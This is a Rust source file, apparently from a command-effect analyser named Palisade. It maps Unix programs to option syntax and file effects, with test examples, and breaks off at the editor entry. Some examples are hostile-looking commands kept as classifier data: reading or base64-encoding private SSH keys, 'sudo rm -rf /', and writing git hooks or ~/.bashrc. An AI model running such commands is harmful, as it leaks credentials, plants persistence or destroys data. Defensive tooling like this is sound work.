//! Per-program knowledge: which options take a value, and what the operands
//! and some option values mean. Data only ([`TABLE`]); [`crate::effect`]
//! interprets it. Every entry carries examples (a command line and its
//! expected effects), checked by `tests/knowledge.rs` through
//! [`knowledge_examples`].

/// What a program's operands (positional arguments) mean.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Role {
    /// Operands are not files (`tr`, `echo`).
    None,
    /// Every operand is read (and written with an `in_place` option).
    Read,
    /// Every operand is read as a whole tree (and written with an
    /// `in_place` option: `prettier --write`, `eslint --fix`).
    ReadTree,
    /// The first operand is a script or pattern (unless a `script_opts`
    /// option gave it); the rest are read (`grep`, `awk`, `sed`, `jq`).
    ScriptThenRead,
    /// The first operand is a script file that is read; the rest are its
    /// arguments (`python x.py`, `source f`), unless a `script_opts` option
    /// gave the code (`python -c`).
    Interpreter,
    /// Like [`Role::Interpreter`], but `-n`/`-p`/`-i` make the remaining
    /// operands input files, written too with `-i` (`perl -pi -e … f`).
    LineInterpreter,
    /// `deno run x.ts`, `bun x.ts`: a subcommand, then maybe a script.
    Runner,
    /// `java -jar app.jar`, `java Main.java`.
    Java,
    /// First operand read, second written (`uniq in out`, `xxd in out`).
    InOut,
    /// Every operand is read and written (editors).
    Edit,
    /// Every operand is written (`touch`, `mkdir`, `tee`).
    Write,
    /// The first operand is a mode or owner, the rest written, unless
    /// `--reference` is given (`chmod`, `chown`).
    ModeThenWrite,
    /// Sources read, last operand written; `-t DIR` form (`cp`, `install`).
    Copy,
    /// Sources read and deleted, last operand written (`mv`).
    Move,
    /// Link targets exposed (read), last operand written (`ln`).
    Link,
    /// Every operand deleted (`rm`, `rmdir`, `shred`).
    Delete,
    /// `mktemp [TEMPLATE]`: creates a file named after the template.
    Mktemp,
    /// `split FILE PREFIX`, `csplit -f PREFIX FILE PATTERN…`.
    Split,
    /// `patch [FILE [PATCHFILE]]`: files named in the diff are written.
    Patch,
    /// `dd if= of=`.
    Dd,
    /// `find PATH… -delete -fprint F`.
    Find,
    /// `tar`.
    Tar,
    /// `zip ARCHIVE FILES…`.
    Zip,
    /// `unzip ARCHIVE [-d DIR]`.
    Unzip,
    /// `7z a|x|l ARCHIVE FILES… [-oDIR]`.
    SevenZip,
    /// `gzip`-like single-file compressors: `f` becomes `f{ext}` (or back).
    Compress {
        /// Suffix added (`.gz`).
        ext: &'static str,
        /// What the program does without options.
        mode: Zmode,
        /// The input is kept without `-k` (`zstd`).
        keep: bool,
    },
    /// `curl`.
    Curl,
    /// `wget`.
    Wget,
    /// HTTPie (`http [METHOD] URL ITEM…`, `f@file` uploads).
    Httpie,
    /// The first operand is a host (`ssh`, `nc`, `telnet`, `ping`).
    Host,
    /// DNS lookups: names (and `@server`) are contacted (`dig`, `host`).
    Dns,
    /// `socat ADDRESS ADDRESS`.
    Socat,
    /// `scp`/`rsync`: `host:path` operands are remote.
    RemoteCopy,
    /// `git` subcommands.
    Git,
    /// `gh`: GitHub; gist/release/issue uploads, `repo clone`.
    Gh,
    /// `docker`/`podman`/`kubectl`: `cp`, bind mounts, build contexts, `-f`.
    Container,
    /// `aws s3 cp|sync|mv`, `gsutil cp`, `gcloud storage cp`: URL
    /// (`s3://`, `gs://`) operands are remote.
    CloudCopy,
    /// `cc`/`rustc`: sources read, `-o` (or `a.out`, `x.o`, `x`) written.
    Compiler,
    /// `ssh-keygen`: `-f` read, or written when generating a key.
    SshKeygen,
    /// `sqlite3 DB [SQL]`: the database is read and written.
    Sqlite,
    /// Database clients: `-h HOST` and `scheme://` operands are contacted.
    DbClient,
    /// `sudo -e FILE` edits; other `sudo` forms are unwrapped before this.
    Sudo,
}

/// What a [`Role::Compress`] program does without `-d`/`-c`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Zmode {
    /// `gzip f`: `f` -> `f.gz`.
    Compress,
    /// `gunzip f.gz`: `f.gz` -> `f`.
    Decompress,
    /// `zcat f.gz`: read to standard output.
    Cat,
}

/// How a program's options are written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Style {
    /// GNU/POSIX: `-abc` clusters, `--long[=value]`, options anywhere.
    Gnu,
    /// Like GNU, but options end at the first operand (interpreters, `ssh`).
    OptionsFirst,
    /// `-name` long options with one dash (`openssl`, `find`).
    SingleDash,
}

/// What Palisade knows about one program.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Spec {
    pub(crate) style: Style,
    /// Short options taking a value (`"o"` for `sort -o FILE`).
    pub(crate) short_val: &'static str,
    /// Short options taking an optional attached value (`sed -i[SUFFIX]`).
    pub(crate) short_opt: &'static str,
    /// Long options (or single-dash names) taking a value.
    pub(crate) long_val: &'static [&'static str],
    /// Options whose value is a file read.
    pub(crate) read_opts: &'static [&'static str],
    /// Options whose value is a file written.
    pub(crate) write_opts: &'static [&'static str],
    /// Options that make operand reads (or deletes) recursive.
    pub(crate) recursive: &'static [&'static str],
    /// Options that give the script/pattern, so no operand is one.
    pub(crate) script_opts: &'static [&'static str],
    /// Options that make every operand also written (`sed -i`).
    pub(crate) in_place: &'static [&'static str],
    /// What operands mean.
    pub(crate) role: Role,
}

/// One entry of the table: program names sharing a spec, and examples.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Entry {
    /// Base names (`/usr/bin/rm` is `rm`).
    pub(crate) names: &'static [&'static str],
    /// How to read the command.
    pub(crate) spec: Spec,
    /// `(command line, expected effects)`, each effect written as
    /// `read:PATH[ recursive][ dynamic]`, `write:PATH[ dynamic]`,
    /// `delete:PATH[ recursive][ dynamic]`, `network:TARGET[ upload:FILE]`;
    /// no effects at all is `["none"]`. Effects of every command of the line
    /// count (`xargs rm`, `sudo rm`), in any order.
    pub(crate) examples: &'static [Example],
}

/// A command line and its expected effects, see [`Entry::examples`].
pub(crate) type Example = (&'static str, &'static [&'static str]);

const BASE: Spec = Spec {
    style: Style::Gnu,
    short_val: "",
    short_opt: "",
    long_val: &[],
    read_opts: &[],
    write_opts: &[],
    recursive: &[],
    script_opts: &[],
    in_place: &[],
    role: Role::None,
};

const fn read(short_val: &'static str) -> Spec {
    Spec {
        short_val,
        role: Role::Read,
        ..BASE
    }
}

const fn none(short_val: &'static str) -> Spec {
    Spec { short_val, ..BASE }
}

const fn role(role: Role) -> Spec {
    Spec { role, ..BASE }
}

const fn compress(ext: &'static str, mode: Zmode, keep: bool) -> Spec {
    Spec {
        short_val: "SToDbCFM",
        long_val: &["--suffix", "--threads", "--format", "--check", "--memlimit"],
        write_opts: &["-o"],
        recursive: &["-r", "--recursive"],
        role: Role::Compress { ext, mode, keep },
        ..BASE
    }
}

const fn entry(names: &'static [&'static str], spec: Spec, examples: &'static [Example]) -> Entry {
    Entry {
        names,
        spec,
        examples,
    }
}

const RECURSIVE: &[&str] = &["-r", "-R", "--recursive", "-a", "--archive"];
const SHELL: Spec = Spec {
    style: Style::OptionsFirst,
    short_val: "oO",
    long_val: &["--rcfile", "--init-file"],
    script_opts: &["-c", "-s"],
    role: Role::Interpreter,
    ..BASE
};

/// The knowledge table: program base name -> spec.
pub(crate) fn spec(program: &str) -> Option<Spec> {
    TABLE
        .iter()
        .find(|e| e.names.contains(&program))
        .map(|e| e.spec)
}

/// Every `(program, command line, expected effects)` example of the table,
/// for `tests/knowledge.rs`. The program is the entry's first name; see
/// [`Entry::examples`] for the effect notation.
#[doc(hidden)]
pub fn knowledge_examples() -> Vec<(&'static str, &'static str, Vec<&'static str>)> {
    TABLE
        .iter()
        .flat_map(|e| {
            e.examples
                .iter()
                .map(move |(cmd, want)| (e.names[0], *cmd, want.to_vec()))
        })
        .collect()
}

/// Every program name in the table.
#[doc(hidden)]
pub fn knowledge_programs() -> Vec<&'static str> {
    TABLE.iter().flat_map(|e| e.names.iter().copied()).collect()
}

/// The table. A name appears in one entry only.
pub(crate) static TABLE: &[Entry] = &[
    // ---- coreutils: reading ----
    entry(
        &["cat", "tac", "rev", "more", "base32", "expand", "unexpand"],
        read(""),
        &[
            ("cat ~/.ssh/id_rsa", &["read:~/.ssh/id_rsa"]),
            ("cat -n a b", &["read:a", "read:b"]),
            ("cat .e*", &["read:.e* dynamic"]),
            ("cat -- -n", &["read:-n"]),
            ("tac log", &["read:log"]),
            ("more README", &["read:README"]),
        ],
    ),
    entry(
        &["comm"],
        read(""),
        &[
            ("comm -12 a b", &["read:a", "read:b"]),
            ("comm -3 x -", &["read:x"]),
        ],
    ),
    entry(
        &["join"],
        read("aejotv12"),
        &[
            ("join -t , -1 2 a.csv b.csv", &["read:a.csv", "read:b.csv"]),
            ("join a b > c", &["read:a", "read:b", "write:c"]),
        ],
    ),
    entry(
        &[
            "md5sum",
            "sha1sum",
            "sha224sum",
            "sha256sum",
            "sha384sum",
            "sha512sum",
            "b2sum",
            "cksum",
            "sum",
            "md5",
        ],
        read(""),
        &[
            ("sha256sum a.tgz", &["read:a.tgz"]),
            ("sha256sum -c SHA256SUMS", &["read:SHA256SUMS"]),
            ("md5sum a b", &["read:a", "read:b"]),
            ("sha1sum x", &["read:x"]),
            ("sha512sum x", &["read:x"]),
        ],
    ),
    entry(
        &["shasum"],
        read("a"),
        &[
            ("shasum -a 256 f", &["read:f"]),
            ("shasum f g", &["read:f", "read:g"]),
        ],
    ),
    entry(
        &["strings"],
        read("nteT"),
        &[
            ("strings -n 8 bin", &["read:bin"]),
            ("strings a b", &["read:a", "read:b"]),
        ],
    ),
    entry(
        &["file"],
        Spec {
            read_opts: &["-m", "-f"],
            ..read("mfFPe")
        },
        &[
            ("file a.bin", &["read:a.bin"]),
            ("file -f list", &["read:list"]),
        ],
    ),
    entry(
        &["head", "tail"],
        read("nc"),
        &[
            ("head -n 5 a", &["read:a"]),
            ("head -c100 a b", &["read:a", "read:b"]),
            ("tail -f app.log", &["read:app.log"]),
            (
                "tail -n +2 data.csv > body.csv",
                &["read:data.csv", "write:body.csv"],
            ),
        ],
    ),
    entry(
        &["less"],
        Spec {
            write_opts: &["-o", "-O", "--log-file"],
            ..read("bhjkoOpPtTxyz")
        },
        &[
            ("less README.md", &["read:README.md"]),
            ("less -o log.txt f", &["write:log.txt", "read:f"]),
        ],
    ),
    entry(
        &["bat", "batcat"],
        Spec {
            long_val: &[
                "--language",
                "--line-range",
                "--highlight-line",
                "--style",
                "--theme",
            ],
            ..read("lrHm")
        },
        &[
            ("bat -l rs src/main.rs", &["read:src/main.rs"]),
            ("bat --line-range 1:10 a b", &["read:a", "read:b"]),
        ],
    ),
    entry(
        &["nl"],
        read("bdfhilnsvw"),
        &[
            ("nl -ba f", &["read:f"]),
            ("nl -w 3 f g", &["read:f", "read:g"]),
        ],
    ),
    entry(
        &["wc"],
        Spec {
            read_opts: &["--files0-from"],
            ..read("")
        },
        &[
            ("wc -l a b", &["read:a", "read:b"]),
            ("wc --files0-from=list", &["read:list"]),
        ],
    ),
    entry(
        &["sort"],
        Spec {
            long_val: &["--output", "--key", "--field-separator", "--buffer-size"],
            write_opts: &["-o", "--output"],
            read_opts: &["--files0-from"],
            ..read("okStT")
        },
        &[
            ("sort -o out in", &["write:out", "read:in"]),
            ("sort -k 2 -t , a.csv", &["read:a.csv"]),
            ("sort -u a b > c", &["read:a", "read:b", "write:c"]),
        ],
    ),
    entry(
        &["cut"],
        read("bcdf"),
        &[
            ("cut -d , -f 1 a.csv", &["read:a.csv"]),
            ("cut -c1-5 a b", &["read:a", "read:b"]),
        ],
    ),
    entry(
        &["paste"],
        read("d"),
        &[
            ("paste -d , a b", &["read:a", "read:b"]),
            ("paste -s f", &["read:f"]),
        ],
    ),
    entry(
        &["od"],
        read("AjNSt"),
        &[
            ("od -A x -t x1z bin", &["read:bin"]),
            ("od -c f", &["read:f"]),
        ],
    ),
    entry(
        &["hexdump"],
        Spec {
            read_opts: &["-f"],
            ..read("efns")
        },
        &[
            ("hexdump -C bin", &["read:bin"]),
            ("hexdump -n 16 a b", &["read:a", "read:b"]),
        ],
    ),
    entry(
        &["base64"],
        read("w"),
        &[
            ("base64 -w0 ~/.ssh/id_rsa", &["read:~/.ssh/id_rsa"]),
            ("base64 -d in.b64 > out", &["read:in.b64", "write:out"]),
        ],
    ),
    entry(
        &["stat"],
        Spec {
            long_val: &["--format", "--printf"],
            ..read("c")
        },
        &[
            ("stat -c %s f", &["read:f"]),
            ("stat a b", &["read:a", "read:b"]),
        ],
    ),
    entry(
        &["ls", "dir", "vdir"],
        Spec {
            long_val: &[
                "--ignore",
                "--hide",
                "--width",
                "--tabsize",
                "--format",
                "--sort",
                "--time-style",
                "--color",
                "--block-size",
                "--quoting-style",
                "--indicator-style",
                "--time",
            ],
            recursive: &["-R", "--recursive"],
            ..read("IwTp")
        },
        &[
            ("ls", &["none"]),
            ("ls -la ~/.ssh", &["read:~/.ssh"]),
            ("ls -R src", &["read:src recursive"]),
            ("ls -I '*.o' a b", &["read:a", "read:b"]),
        ],
    ),
    entry(
        &["tree"],
        Spec {
            write_opts: &["-o"],
            ..Spec {
                role: Role::ReadTree,
                ..none("LIPoH")
            }
        },
        &[
            ("tree -L 2 src", &["read:src recursive"]),
            ("tree -o t.txt", &["write:t.txt"]),
        ],
    ),
    entry(
        &["du"],
        Spec {
            long_val: &[
                "--max-depth",
                "--exclude",
                "--block-size",
                "--threshold",
                "--time-style",
                "--files0-from",
                "--exclude-from",
            ],
            read_opts: &["--files0-from", "-X", "--exclude-from"],
            role: Role::ReadTree,
            ..none("dBtX")
        },
        &[
            ("du -sh node_modules", &["read:node_modules recursive"]),
            (
                "du -d 1 ~ /tmp",
                &["read:~ recursive", "read:/tmp recursive"],
            ),
        ],
    ),
    entry(
        &["df"],
        none("BtxF"),
        &[("df -h", &["none"]), ("df -h /", &["none"])],
    ),
    entry(
        &["readlink", "realpath"],
        Spec {
            long_val: &["--relative-to", "--relative-base"],
            ..read("")
        },
        &[
            ("readlink -f ~/.ssh/id_rsa", &["read:~/.ssh/id_rsa"]),
            ("realpath a b", &["read:a", "read:b"]),
            ("realpath --relative-to=/x a", &["read:a"]),
        ],
    ),
    entry(
        &["diff", "colordiff"],
        Spec {
            long_val: &[
                "--label",
                "--ignore-matching-lines",
                "--exclude",
                "--exclude-from",
            ],
            read_opts: &["-X", "--exclude-from"],
            recursive: &["-r", "--recursive"],
            ..read("CUIxXLF")
        },
        &[
            ("diff -u a b", &["read:a", "read:b"]),
            (
                "diff -ru old new > p.diff",
                &["read:old recursive", "read:new recursive", "write:p.diff"],
            ),
        ],
    ),
    entry(
        &["cmp"],
        read("in"),
        &[
            ("cmp a b", &["read:a", "read:b"]),
            ("cmp -n 10 a b", &["read:a", "read:b"]),
        ],
    ),
    entry(
        &["iconv"],
        Spec {
            write_opts: &["-o", "--output"],
            long_val: &["--from-code", "--to-code", "--output"],
            ..read("fto")
        },
        &[
            ("iconv -f latin1 -t utf8 a -o b", &["read:a", "write:b"]),
            ("iconv -f l1 a", &["read:a"]),
        ],
    ),
    entry(
        &["column"],
        read("cosNEHRlWd"),
        &[
            ("column -t -s , a.csv", &["read:a.csv"]),
            ("column a b", &["read:a", "read:b"]),
        ],
    ),
    entry(
        &["fold", "fmt"],
        read("wpg"),
        &[
            ("fold -w 80 f", &["read:f"]),
            ("fmt a b", &["read:a", "read:b"]),
        ],
    ),
    entry(
        &["pr"],
        read("hlwoN"),
        &[
            ("pr -h T f", &["read:f"]),
            ("pr a b", &["read:a", "read:b"]),
        ],
    ),
    entry(
        &["xxd"],
        Spec {
            role: Role::InOut,
            ..read("cglsonC")
        },
        &[
            ("xxd -r in out", &["read:in", "write:out"]),
            ("xxd -l 64 bin", &["read:bin"]),
        ],
    ),
    entry(
        &["uniq"],
        Spec {
            role: Role::InOut,
            ..read("fsw")
        },
        &[
            ("uniq -c in", &["read:in"]),
            ("uniq in out", &["read:in", "write:out"]),
        ],
    ),
    // ---- coreutils: no files ----
    entry(
        &[
            "echo", "printf", "true", "false", "yes", ":", "test", "[", "expr",
        ],
        BASE,
        &[
            ("echo hi", &["none"]),
            (
                "echo x > .git/hooks/pre-commit 2>/dev/null",
                &["write:.git/hooks/pre-commit"],
            ),
            ("printf '%s' a >> log", &["write:log"]),
            ("true", &["none"]),
            ("false", &["none"]),
            ("yes | head -n 2", &["none"]),
            ("test -f a", &["none"]),
        ],
    ),
    entry(
        &["tr"],
        BASE,
        &[
            ("tr a-z A-Z < in > out", &["read:in", "write:out"]),
            ("tr -d '\\r'", &["none"]),
        ],
    ),
    entry(
        &["printenv"],
        BASE,
        &[
            ("printenv HOME", &["none"]),
            ("printenv > env.txt", &["write:env.txt"]),
        ],
    ),
    entry(
        &["env"],
        Spec {
            long_val: &["--unset", "--chdir", "--split-string"],
            ..none("uCS")
        },
        &[("env", &["none"]), ("env -u X FOO=1 cat f", &["read:f"])],
    ),
    entry(
        &["basename", "dirname"],
        none("s"),
        &[
            ("basename a/b.txt .txt", &["none"]),
            ("dirname ~/.ssh/id_rsa", &["none"]),
        ],
    ),
    entry(
        &["date"],
        Spec {
            short_opt: "I",
            long_val: &["--date", "--file", "--reference", "--set"],
            read_opts: &["-f", "--file", "-r", "--reference"],
            ..none("dfrs")
        },
        &[
            ("date +%s", &["none"]),
            ("date -r build.log", &["read:build.log"]),
        ],
    ),
    entry(&["sleep"], BASE, &[("sleep 5", &["none"])]),
    entry(
        &["seq"],
        none("fs"),
        &[
            ("seq 1 10", &["none"]),
            ("seq -s , 5 > n.txt", &["write:n.txt"]),
        ],
    ),
    entry(
        &[
            "pwd", "whoami", "id", "uname", "hostname", "uptime", "nproc", "arch", "tty", "clear",
            "groups", "logname", "users",
        ],
        BASE,
        &[
            ("pwd", &["none"]),
            ("whoami", &["none"]),
            ("uname -a", &["none"]),
            ("id -u", &["none"]),
        ],
    ),
    entry(
        &["which", "whereis", "type"],
        BASE,
        &[("which python3", &["none"]), ("whereis ls", &["none"])],
    ),
    entry(
        &["locate", "plocate", "mlocate"],
        Spec {
            long_val: &["--database", "--limit"],
            read_opts: &["-d", "--database"],
            ..none("dln")
        },
        &[
            ("locate id_rsa", &["none"]),
            ("locate -d db.locate x", &["read:db.locate"]),
        ],
    ),
    entry(
        &["xargs"],
        Spec {
            long_val: &[
                "--arg-file",
                "--delimiter",
                "--max-args",
                "--max-procs",
                "--max-chars",
                "--process-slot-var",
            ],
            read_opts: &["-a", "--arg-file"],
            ..none("ILnPdEsa")
        },
        &[
            ("xargs -a list.txt echo", &["read:list.txt"]),
            ("xargs rm -f stale", &["delete:stale"]),
            ("find . -name '*.o' | xargs -0 rm", &["read:. recursive"]),
        ],
    ),
    // ---- coreutils: writing, copying, deleting ----
    entry(
        &["cp", "install", "gcp"],
        Spec {
            long_val: &[
                "--target-directory",
                "--suffix",
                "--mode",
                "--owner",
                "--group",
            ],
            recursive: RECURSIVE,
            role: Role::Copy,
            ..read("tSmog")
        },
        &[
            ("cp ~/.ssh/id_rsa .", &["read:~/.ssh/id_rsa", "write:."]),
            (
                "cp -r a b dst",
                &["read:a recursive", "read:b recursive", "write:dst"],
            ),
            ("cp -t dst a", &["read:a", "write:dst"]),
            (
                "install -m 755 app /usr/local/bin/app",
                &["read:app", "write:/usr/local/bin/app"],
            ),
            ("install -d -m 700 ~/.cache/x", &["write:~/.cache/x"]),
        ],
    ),
    entry(
        &["mv", "gmv"],
        Spec {
            long_val: &["--target-directory", "--suffix"],
            role: Role::Move,
            ..read("tS")
        },
        &[
            ("mv a b", &["read:a recursive", "delete:a", "write:b"]),
            (
                "mv -t dst a b",
                &[
                    "read:a recursive",
                    "delete:a",
                    "read:b recursive",
                    "delete:b",
                    "write:dst",
                ],
            ),
        ],
    ),
    entry(
        &["ln"],
        Spec {
            long_val: &["--target-directory", "--suffix"],
            role: Role::Link,
            ..read("tS")
        },
        &[
            ("ln -s ~/.ssh/id_rsa k", &["read:~/.ssh/id_rsa", "write:k"]),
            ("ln -sf /etc/hosts", &["read:/etc/hosts", "write:hosts"]),
        ],
    ),
    entry(
        &["rm", "unlink", "shred", "srm"],
        Spec {
            long_val: &["--iterations", "--size", "--random-source"],
            recursive: &["-r", "-R", "--recursive"],
            role: Role::Delete,
            ..read("ns")
        },
        &[
            (
                "rm -rf target node_modules",
                &["delete:target recursive", "delete:node_modules recursive"],
            ),
            ("rm -f a", &["delete:a"]),
            ("sudo -u root rm -rf /", &["delete:/ recursive"]),
            ("shred -u -n 3 secret", &["delete:secret"]),
            ("unlink l", &["delete:l"]),
        ],
    ),
    entry(
        &["rmdir"],
        role(Role::Delete),
        &[
            ("rmdir a", &["delete:a"]),
            ("rmdir -p a/b", &["delete:a/b"]),
        ],
    ),
    entry(
        &["touch"],
        Spec {
            long_val: &["--reference", "--date"],
            read_opts: &["-r", "--reference"],
            role: Role::Write,
            ..read("drt")
        },
        &[
            ("touch a b", &["write:a", "write:b"]),
            ("touch -r ref a", &["read:ref", "write:a"]),
        ],
    ),
    entry(
        &["mkdir"],
        Spec {
            long_val: &["--mode", "--context"],
            role: Role::Write,
            ..read("mZ")
        },
        &[
            ("mkdir -p b -m 700", &["write:b"]),
            ("mkdir a b", &["write:a", "write:b"]),
        ],
    ),
    entry(
        &["mktemp"],
        Spec {
            long_val: &["--tmpdir", "--suffix"],
            short_opt: "p",
            role: Role::Mktemp,
            ..BASE
        },
        &[
            ("mktemp", &["none"]),
            ("mktemp -d", &["none"]),
            ("mktemp build.XXXXXX", &["write:build.XXXXXX dynamic"]),
        ],
    ),
    entry(
        &["truncate"],
        Spec {
            long_val: &["--size", "--reference"],
            read_opts: &["-r", "--reference"],
            role: Role::Write,
            ..read("sr")
        },
        &[
            ("truncate -s 0 log", &["write:log"]),
            ("truncate -r ref a", &["read:ref", "write:a"]),
        ],
    ),
    entry(
        &["tee"],
        role(Role::Write),
        &[
            ("tee -a ~/.bashrc", &["write:~/.bashrc"]),
            ("tee a b", &["write:a", "write:b"]),
        ],
    ),
    entry(
        &["split", "csplit"],
        Spec {
            long_val: &[
                "--suffix-length",
                "--bytes",
                "--line-bytes",
                "--lines",
                "--number",
                "--additional-suffix",
                "--filter",
                "--separator",
                "--prefix",
                "--digits",
                "--suffix-format",
            ],
            role: Role::Split,
            ..none("abClntfn")
        },
        &[
            (
                "split -l 1000 big.csv part_",
                &["read:big.csv", "write:part_* dynamic"],
            ),
            ("split -b 1M f", &["read:f", "write:x* dynamic"]),
            (
                "csplit -f sec in.txt '/^#/' '{*}'",
                &["read:in.txt", "write:sec* dynamic"],
            ),
        ],
    ),
    entry(
        &["setfacl"],
        Spec {
            long_val: &[
                "--modify",
                "--remove",
                "--set",
                "--modify-file",
                "--remove-file",
                "--set-file",
            ],
            read_opts: &["-M", "-X", "--modify-file", "--remove-file", "--set-file"],
            role: Role::Write,
            ..read("mxMX")
        },
        &[
            ("setfacl -m u:x:r f", &["write:f"]),
            ("setfacl -M acl f", &["read:acl", "write:f"]),
        ],
    ),
    entry(
        &["chattr"],
        Spec {
            role: Role::Write,
            ..read("vp")
        },
        &[
            ("chattr +i f", &["write:f"]),
            ("chattr -R +a a b", &["write:a", "write:b"]),
        ],
    ),
    entry(
        &["chmod", "chown", "chgrp"],
        Spec {
            long_val: &["--reference", "--from"],
            read_opts: &["--reference"],
            role: Role::ModeThenWrite,
            ..BASE
        },
        &[
            ("chmod +x a b", &["write:a", "write:b"]),
            ("chmod -x a", &["write:a"]),
            ("chmod 600 ~/.ssh/config", &["write:~/.ssh/config"]),
            ("chown --reference=r a", &["read:r", "write:a"]),
            ("chown -R u:g dir", &["write:dir"]),
            ("chgrp staff f", &["write:f"]),
        ],
    ),
    entry(
        &["dd"],
        role(Role::Dd),
        &[
            (
                "dd if=/dev/sda of=disk.img bs=1M",
                &["read:/dev/sda", "write:disk.img"],
            ),
            (
                "dd if=/dev/zero of=f count=1",
                &["read:/dev/zero", "write:f"],
            ),
        ],
    ),
    entry(
        &["patch"],
        Spec {
            long_val: &[
                "--strip",
                "--directory",
                "--input",
                "--output",
                "--reject-file",
                "--prefix",
                "--suffix",
                "--backup-if-mismatch",
                "--ifdef",
                "--fuzz",
                "--version-control",
            ],
            read_opts: &["-i", "--input"],
            write_opts: &["-o", "--output", "-r", "--reject-file"],
            role: Role::Patch,
            ..none("pdDFiorBVYzg")
        },
        &[
            ("patch -p1 < x.diff", &["read:x.diff", "write:."]),
            (
                "patch -p1 -d src -i fix.patch",
                &["read:fix.patch", "write:src"],
            ),
            ("patch f fix.diff", &["read:f", "write:f", "read:fix.diff"]),
            ("patch --dry-run -p1 < x.diff", &["read:x.diff"]),
        ],
    ),
    // ---- findutils ----
    entry(
        &["find", "gfind"],
        role(Role::Find),
        &[
            (
                "find . -name '*.tmp' -delete",
                &["read:. recursive", "delete:. recursive"],
            ),
            ("find src -fprint out", &["read:src recursive", "write:out"]),
            (
                "find . -exec rm {} \\;",
                &["read:. recursive", "delete:{} dynamic"],
            ),
            ("find -type f", &["read:. recursive"]),
        ],
    ),
    entry(
        &["fd", "fdfind"],
        Spec {
            long_val: &[
                "--type",
                "--extension",
                "--exclude",
                "--max-depth",
                "--min-depth",
                "--exec",
                "--exec-batch",
                "--threads",
                "--size",
                "--changed-within",
                "--changed-before",
                "--owner",
                "--base-directory",
                "--search-path",
                "--ignore-file",
                "--color",
                "--max-results",
            ],
            role: Role::ScriptThenRead,
            ..none("tedEjxXSo")
        },
        &[
            ("fd -e rs", &["read:. recursive"]),
            ("fd conf ~/.config", &["read:~/.config recursive"]),
        ],
    ),
    // ---- text tools ----
    entry(
        &["jq", "yq", "gojq", "jaq"],
        Spec {
            long_val: &[
                "--arg",
                "--argjson",
                "--slurpfile",
                "--rawfile",
                "--indent",
                "--from-file",
            ],
            read_opts: &["-f", "--from-file"],
            script_opts: &["-f", "--from-file"],
            role: Role::ScriptThenRead,
            ..read("fL")
        },
        &[
            ("jq .a f.json", &["read:f.json"]),
            ("jq -r '.x' a.json b.json", &["read:a.json", "read:b.json"]),
            ("jq -f prog.jq in.json", &["read:prog.jq", "read:in.json"]),
            ("yq e '.a' c.yaml", &["read:c.yaml"]),
            ("yq -i '.a = 1' c.yaml", &["read:c.yaml"]),
        ],
    ),
    entry(
        &["xmllint"],
        Spec {
            long_val: &[
                "--output",
                "--xpath",
                "--schema",
                "--relaxng",
                "--dtdvalid",
                "--encode",
                "--path",
                "--pattern",
                "--maxmem",
            ],
            read_opts: &["--schema", "--relaxng", "--dtdvalid"],
            write_opts: &["--output"],
            ..read("")
        },
        &[
            ("xmllint --format a.xml", &["read:a.xml"]),
            (
                "xmllint --schema s.xsd --output o.xml a.xml",
                &["read:s.xsd", "write:o.xml", "read:a.xml"],
            ),
        ],
    ),
    entry(
        &["awk", "gawk", "mawk", "nawk"],
        Spec {
            long_val: &[
                "--file",
                "--assign",
                "--field-separator",
                "--include",
                "--load",
            ],
            read_opts: &["-f", "--file", "-i", "--include"],
            script_opts: &["-f", "--file", "-e", "--source"],
            role: Role::ScriptThenRead,
            ..read("fvFiel")
        },
        &[
            ("awk -v x=1 '{print}' f", &["read:f"]),
            ("awk -f prog.awk f", &["read:prog.awk", "read:f"]),
            (
                "awk -F: '{print $1}' /etc/passwd OFS=,",
                &["read:/etc/passwd"],
            ),
            ("gawk '{print}' a", &["read:a"]),
        ],
    ),
    entry(
        &["sed", "gsed"],
        Spec {
            short_opt: "i",
            long_val: &["--expression", "--file", "--line-length"],
            read_opts: &["-f", "--file"],
            script_opts: &["-e", "--expression", "-f", "--file"],
            in_place: &["-i", "--in-place"],
            role: Role::ScriptThenRead,
            ..read("efl")
        },
        &[
            ("sed -i s/a/b/ f", &["read:f", "write:f"]),
            ("sed -e s/a/b/ f g", &["read:f", "read:g"]),
            ("sed -n p f", &["read:f"]),
            (
                "sed -i.bak -f fix.sed a",
                &["read:fix.sed", "read:a", "write:a"],
            ),
        ],
    ),
    entry(
        &["grep", "egrep", "fgrep", "zgrep"],
        Spec {
            long_val: &[
                "--regexp",
                "--file",
                "--max-count",
                "--context",
                "--after-context",
                "--before-context",
                "--include",
                "--exclude",
                "--exclude-dir",
                "--exclude-from",
                "--label",
            ],
            read_opts: &["-f", "--file", "--exclude-from"],
            script_opts: &["-e", "--regexp", "-f", "--file"],
            recursive: &["-r", "-R", "--recursive", "--dereference-recursive"],
            role: Role::ScriptThenRead,
            ..read("efmABCDd")
        },
        &[
            ("grep -r SECRET .", &["read:. recursive"]),
            ("grep -rn TODO", &["read:. recursive"]),
            ("grep -e x -f pats a", &["read:pats", "read:a"]),
            ("grep -i error log1 log2", &["read:log1", "read:log2"]),
            ("egrep 'a|b' f", &["read:f"]),
            ("fgrep -x s f", &["read:f"]),
        ],
    ),
    entry(
        &["rg", "ag", "ack"],
        Spec {
            long_val: &[
                "--regexp",
                "--file",
                "--glob",
                "--iglob",
                "--type",
                "--type-not",
                "--max-count",
                "--context",
                "--after-context",
                "--before-context",
                "--max-depth",
                "--threads",
                "--replace",
                "--ignore-file",
                "--sort",
                "--sortr",
                "--pre",
                "--pre-glob",
                "--encoding",
                "--colors",
                "--ignore",
                "--depth",
            ],
            read_opts: &["-f", "--file", "--ignore-file"],
            script_opts: &["-e", "--regexp", "-f", "--file"],
            role: Role::ScriptThenRead,
            ..read("efgtTmABCjMErGp")
        },
        &[
            ("rg TOKEN", &["read:. recursive"]),
            (
                "rg -g '*.rs' fn src tests",
                &["read:src recursive", "read:tests recursive"],
            ),
            ("ag foo lib", &["read:lib recursive"]),
        ],
    ),
    entry(
        &[
            "vi", "vim", "nvim", "view", "nano", "emacs", "pico", "micro", "ed", "code", "subl",
            "hx",
        ],
        Spec {
            long_val: &["--eval", "--cmd", "--load"],
            read_opts: &["-S", "-u", "-l", "--load"],
            role: Role::Edit,
            ..read("cSuTlrwW")
        },
        &[
            ("vim f", &["read:f", "write:f"]),
